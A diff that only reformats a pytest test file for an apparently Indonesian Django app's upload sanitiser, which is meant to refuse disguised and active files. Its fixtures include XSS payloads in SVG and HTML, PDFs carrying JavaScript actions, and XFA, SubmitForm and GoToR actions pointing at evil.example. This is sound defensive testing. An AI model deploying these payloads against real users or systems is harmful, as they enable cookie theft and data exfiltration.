@@ -27,6 +27,7 @@ ORIENTATION = 0x0112
 
 # --- files as citizens send them ---------------------------------------------------
 
+
 def jpeg_with_gps(size=(64, 48), orientation=None) -> bytes:
     image = Image.new("RGB", size, (200, 30, 30))
     exif = image.getexif()
@@ -56,7 +57,10 @@ def pdf(*objects: bytes, trailer: bytes = b"/Root 1 0 R") -> bytes:
     out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
     out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
     out += b"trailer\n<< /Size %d %s >>\nstartxref\n%d\n%%%%EOF\n" % (
-        len(objects) + 1, trailer, xref)
+        len(objects) + 1,
+        trailer,
+        xref,
+    )
     return bytes(out)
 
 
@@ -113,6 +117,7 @@ def body(response) -> bytes:
 
 
 # --- validation ----------------------------------------------------------------------
+
 
 def test_an_oversized_file_is_refused_before_it_is_read(settings):
     settings.UPLOAD_MAX_BYTES = 1000
@@ -174,10 +179,16 @@ def test_a_pdf_renamed_jpg_is_kept_as_a_pdf_where_pdfs_are_allowed():
 @pytest.mark.parametrize(
     ("name", "data"),
     [
-        ("peta.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)'
-                     b"</script><circle r='4'/></svg>"),
-        ("peta.jpg", b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" '
-                     b'onload="alert(1)"></svg>'),
+        (
+            "peta.svg",
+            b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)'
+            b"</script><circle r='4'/></svg>",
+        ),
+        (
+            "peta.jpg",
+            b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" '
+            b'onload="alert(1)"></svg>',
+        ),
         ("halaman.html", b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"),
         ("foto.jpg", b"<html><script>fetch('/akun/')</script></html>"),
         ("foto.png", b"GIF89a\x01\x00\x01\x00\x00\x00\x00;"),  # a real type, not allowed
@@ -218,8 +229,14 @@ def test_the_exif_orientation_is_applied_to_the_pixels_before_the_tag_is_dropped
 
 def _png_with_short_ihdr() -> bytes:
     chunk = b"\x00\x00\x00\x0a"
-    return (b"\x89PNG\r\n\x1a\n" + struct.pack(">I", len(chunk)) + b"IHDR" + chunk
-            + struct.pack(">I", zlib.crc32(b"IHDR" + chunk)) + b"\x00" * 20)
+    return (
+        b"\x89PNG\r\n\x1a\n"
+        + struct.pack(">I", len(chunk))
+        + b"IHDR"
+        + chunk
+        + struct.pack(">I", zlib.crc32(b"IHDR" + chunk))
+        + b"\x00" * 20
+    )
 
 
 @pytest.mark.parametrize(
@@ -266,6 +283,7 @@ def test_an_image_with_too_many_pixels_is_refused():
 
 # --- PDF active content ----------------------------------------------------------------
 
+
 def test_a_plain_pdf_is_accepted_unchanged():
     data = plain_pdf()
 
@@ -302,7 +320,10 @@ def test_javascript_hidden_in_a_compressed_object_stream_is_refused():
     inner = b"<< /S /JavaScript /JS (app.alert(1)) >>"
     packed = zlib.compress(b"6 0 " + inner)
     data = pdf(
-        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>", PAGES, PAGE, TEXT,
+        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>",
+        PAGES,
+        PAGE,
+        TEXT,
         stream(packed, b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode"),
     )
     assert b"JavaScript" not in data  # invisible to a byte search
@@ -313,23 +334,40 @@ def test_javascript_hidden_in_a_compressed_object_stream_is_refused():
 @pytest.mark.parametrize("compress", [True, False])
 def test_an_object_stream_with_ordinary_objects_is_accepted(compress):
     inner = b"6 0 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
-    data = pdf(CATALOG, PAGES, PAGE, TEXT, stream(
-        zlib.compress(inner) if compress else inner,
-        b"/Type /ObjStm /N 1 /First 4" + (b" /Filter /FlateDecode" if compress else b"")))
+    data = pdf(
+        CATALOG,
+        PAGES,
+        PAGE,
+        TEXT,
+        stream(
+            zlib.compress(inner) if compress else inner,
+            b"/Type /ObjStm /N 1 /First 4" + (b" /Filter /FlateDecode" if compress else b""),
+        ),
+    )
 
     assert uploads.clean_upload(upload("surat.pdf", data)).content == data
 
 
 def test_javascript_in_an_uncompressed_object_stream_is_refused():
-    data = pdf(b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>", PAGES, PAGE, TEXT,
-               stream(b"6 0 << /S /JavaScript /JS (x) >>", b"/Type /ObjStm /N 1 /First 4"))
+    data = pdf(
+        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>",
+        PAGES,
+        PAGE,
+        TEXT,
+        stream(b"6 0 << /S /JavaScript /JS (x) >>", b"/Type /ObjStm /N 1 /First 4"),
+    )
 
     assert refused("surat.pdf", data).code == "pdf_active"
 
 
 def test_an_object_stream_that_cannot_be_inflated_is_refused():
-    data = pdf(CATALOG, PAGES, PAGE, TEXT,
-               stream(b"\x8a\x01 not zlib", b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode"))
+    data = pdf(
+        CATALOG,
+        PAGES,
+        PAGE,
+        TEXT,
+        stream(b"\x8a\x01 not zlib", b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode"),
+    )
 
     error = refused("surat.pdf", data)
 
@@ -342,8 +380,11 @@ def test_a_scanned_pdf_whose_image_bytes_happen_to_contain_js_is_accepted():
     rng = random.Random(12)
     scan = bytes(rng.randrange(256) for _ in range(4000))
     scan = scan[:1000] + b"/JS (" + scan[1000:2000] + b"/JavaScript /Launch" + scan[2000:]
-    image = stream(scan, b"/Type /XObject /Subtype /Image /Width 50 /Height 80 "
-                         b"/ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /DCTDecode")
+    image = stream(
+        scan,
+        b"/Type /XObject /Subtype /Image /Width 50 /Height 80 "
+        b"/ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /DCTDecode",
+    )
     data = pdf(CATALOG, PAGES, PAGE, TEXT, image)
 
     clean = uploads.clean_upload(upload("ktp-scan.pdf", data))
@@ -359,6 +400,7 @@ def test_a_pdf_name_that_only_starts_like_js_is_accepted():
 
 # --- the form field ------------------------------------------------------------------
 
+
 class PhotoForm(forms.Form):
     foto = uploads.SafeFileField(kinds=("image",), max_bytes=200_000)
 
@@ -370,7 +412,8 @@ def test_the_form_field_gives_the_indonesian_message_for_a_pdf_named_jpg():
         assert not form.is_valid()
         assert form.errors["foto"] == [
             "Jenis berkas tidak diizinkan. Unggah JPEG/PNG/WebP; jenis dikenali dari isi "
-            "berkas, bukan dari namanya."]
+            "berkas, bukan dari namanya."
+        ]
 
 
 def test_the_form_field_gives_the_indonesian_message_for_a_missing_or_corrupt_file():
@@ -397,6 +440,7 @@ def test_the_form_field_cleans_to_a_file_without_metadata_and_limits_the_picker(
 
 
 # --- storage -------------------------------------------------------------------------
+
 
 @pytest.mark.django_db
 def test_a_stored_upload_lives_under_media_root_not_in_the_static_paths(media, citizen):
@@ -442,6 +486,7 @@ def test_the_configured_media_root_is_outside_the_web_root():
 
 # --- the serve view ------------------------------------------------------------------
 
+
 @pytest.fixture
 def photo(media, citizen):
     clean = uploads.clean_upload(upload("lokasi.jpg", jpeg_with_gps()))
@@ -471,8 +516,8 @@ def test_the_owner_gets_the_file_with_safe_headers(client, citizen, photo):
 @pytest.mark.django_db
 def test_a_pdf_is_served_as_a_pdf_whatever_its_original_name(client, citizen, media):
     stored = uploads.upload_store(
-        clean=uploads.clean_upload(upload("foto.jpg", plain_pdf())), purpose="uji",
-        owner=citizen)
+        clean=uploads.clean_upload(upload("foto.jpg", plain_pdf())), purpose="uji", owner=citizen
+    )
     client.force_login(citizen)
 
     response = client.get(url(stored))
@@ -494,7 +539,8 @@ def test_a_pdf_is_served_as_a_pdf_whatever_its_original_name(client, citizen, me
 )
 def test_the_download_name_survives_quotes_and_non_ascii(client, citizen, media, name):
     stored = uploads.upload_store(
-        clean=uploads.clean_upload(upload(name, plain_pdf())), purpose="uji", owner=citizen)
+        clean=uploads.clean_upload(upload(name, plain_pdf())), purpose="uji", owner=citizen
+    )
     client.force_login(citizen)
 
     response = client.get(url(stored))
@@ -536,9 +582,12 @@ def test_a_row_whose_file_is_gone_gets_404_not_500(client, citizen, photo):
 
 @pytest.mark.django_db
 def test_a_registered_policy_grants_a_moderator_and_no_one_else(
-        client, policy, photo, moderator, make_citizen):
-    policy("uji-pengaduan", lambda user, upload: user.is_authenticated
-           and user.has_role("moderator_pengaduan"))
+    client, policy, photo, moderator, make_citizen
+):
+    policy(
+        "uji-pengaduan",
+        lambda user, upload: user.is_authenticated and user.has_role("moderator_pengaduan"),
+    )
 
     client.force_login(moderator)
     assert client.get(url(photo)).status_code == 200
@@ -568,6 +617,7 @@ def test_a_policy_for_one_purpose_does_not_open_another(client, policy, photo, m
 
 # --- active PDFs built with pikepdf: one per kind -----------------------------------------
 
+
 def _pikepdf_doc():
     import pikepdf
 
@@ -591,23 +641,28 @@ def _with_annotation(doc, pk, annotation):
 
 
 def _link(pk, action):
-    return pk.Dictionary(Type=pk.Name.Annot, Subtype=pk.Name.Link,
-                         Rect=pk.Array([72, 700, 300, 720]), A=action)
+    return pk.Dictionary(
+        Type=pk.Name.Annot, Subtype=pk.Name.Link, Rect=pk.Array([72, 700, 300, 720]), A=action
+    )
 
 
 def _xfa(doc, pk):
-    script = b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform>' \
-             b'<event activity="initialize"><script contentType="application/x-javascript">' \
-             b'app.launchURL("http://evil.example/")</script></event></subform></template>' \
-             b'</xdp:xdp>'
-    doc.Root.AcroForm = doc.make_indirect(pk.Dictionary(
-        Fields=pk.Array(), XFA=doc.make_indirect(pk.Stream(doc, script))))
+    script = (
+        b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform>'
+        b'<event activity="initialize"><script contentType="application/x-javascript">'
+        b'app.launchURL("http://evil.example/")</script></event></subform></template>'
+        b"</xdp:xdp>"
+    )
+    doc.Root.AcroForm = doc.make_indirect(
+        pk.Dictionary(Fields=pk.Array(), XFA=doc.make_indirect(pk.Stream(doc, script)))
+    )
 
 
 def _names_javascript(doc, pk):
     js = _action(pk, "/JavaScript", JS=pk.String("app.alert(1)"))
-    doc.Root.Names = pk.Dictionary(JavaScript=pk.Dictionary(
-        Names=pk.Array([pk.String("init"), doc.make_indirect(js)])))
+    doc.Root.Names = pk.Dictionary(
+        JavaScript=pk.Dictionary(Names=pk.Array([pk.String("init"), doc.make_indirect(js)]))
+    )
 
 
 def _open_action_javascript(doc, pk):
@@ -615,13 +670,15 @@ def _open_action_javascript(doc, pk):
 
 
 def _page_additional_action(doc, pk):
-    doc.pages[0].AA = pk.Dictionary(O=_action(pk, "/GoTo", D=pk.Array([doc.pages[0].obj,
-                                                                       pk.Name.Fit])))
+    doc.pages[0].AA = pk.Dictionary(
+        O=_action(pk, "/GoTo", D=pk.Array([doc.pages[0].obj, pk.Name.Fit]))
+    )
 
 
 def _submit_form(doc, pk):
-    _with_annotation(doc, pk, _link(pk, _action(
-        pk, "/SubmitForm", F=pk.String("http://evil.example/collect"))))
+    _with_annotation(
+        doc, pk, _link(pk, _action(pk, "/SubmitForm", F=pk.String("http://evil.example/collect")))
+    )
 
 
 def _import_data(doc, pk):
@@ -633,30 +690,53 @@ def _launch(doc, pk):
 
 
 def _goto_remote(doc, pk):
-    _with_annotation(doc, pk, _link(pk, _action(
-        pk, "/GoToR", F=pk.String("\\\\evil.example\\share\\x.pdf"), D=pk.Array([0, pk.Name.Fit]))))
+    _with_annotation(
+        doc,
+        pk,
+        _link(
+            pk,
+            _action(
+                pk,
+                "/GoToR",
+                F=pk.String("\\\\evil.example\\share\\x.pdf"),
+                D=pk.Array([0, pk.Name.Fit]),
+            ),
+        ),
+    )
 
 
 def _goto_embedded(doc, pk):
-    _with_annotation(doc, pk, _link(pk, _action(
-        pk, "/GoToE", T=pk.Dictionary(R=pk.Name.C, N=pk.String("x.pdf")))))
+    _with_annotation(
+        doc,
+        pk,
+        _link(pk, _action(pk, "/GoToE", T=pk.Dictionary(R=pk.Name.C, N=pk.String("x.pdf")))),
+    )
 
 
 def _rich_media(doc, pk):
-    _with_annotation(doc, pk, pk.Dictionary(
-        Type=pk.Name.Annot, Subtype=pk.Name.RichMedia, Rect=pk.Array([0, 0, 100, 100]),
-        RichMediaContent=pk.Dictionary(Assets=pk.Dictionary())))
+    _with_annotation(
+        doc,
+        pk,
+        pk.Dictionary(
+            Type=pk.Name.Annot,
+            Subtype=pk.Name.RichMedia,
+            Rect=pk.Array([0, 0, 100, 100]),
+            RichMediaContent=pk.Dictionary(Assets=pk.Dictionary()),
+        ),
+    )
 
 
 def _embedded_file(doc, pk):
-    doc.attachments["catatan.txt"] = pk.AttachedFileSpec(doc, b"isi tersembunyi",
-                                                         mime_type="text/plain")
+    doc.attachments["catatan.txt"] = pk.AttachedFileSpec(
+        doc, b"isi tersembunyi", mime_type="text/plain"
+    )
 
 
 def _js_in_an_odd_place(doc, pk):
     """/JS in private application data a reader need not look at: still refused."""
-    doc.pages[0].PieceInfo = pk.Dictionary(Custom=doc.make_indirect(pk.Dictionary(
-        Private=pk.Dictionary(JS=pk.String("app.alert(1)")))))
+    doc.pages[0].PieceInfo = pk.Dictionary(
+        Custom=doc.make_indirect(pk.Dictionary(Private=pk.Dictionary(JS=pk.String("app.alert(1)"))))
+    )
 
 
 ACTIVE_KINDS = {
@@ -690,8 +770,9 @@ def test_ordinary_pdf_features_stay_accepted():
     office programs write; they run nothing."""
     doc, pk = _pikepdf_doc()
     doc.Root.OpenAction = pk.Array([doc.pages[0].obj, pk.Name.Fit])
-    _with_annotation(doc, pk, _link(pk, _action(pk, "/URI",
-                                                URI=pk.String("https://binjaikota.go.id"))))
+    _with_annotation(
+        doc, pk, _link(pk, _action(pk, "/URI", URI=pk.String("https://binjaikota.go.id")))
+    )
     doc.Root.AcroForm = pk.Dictionary(Fields=pk.Array())
     data = _saved(doc)
     assert uploads.clean_upload(upload("izin.pdf", data), kinds=("pdf",)).content == data
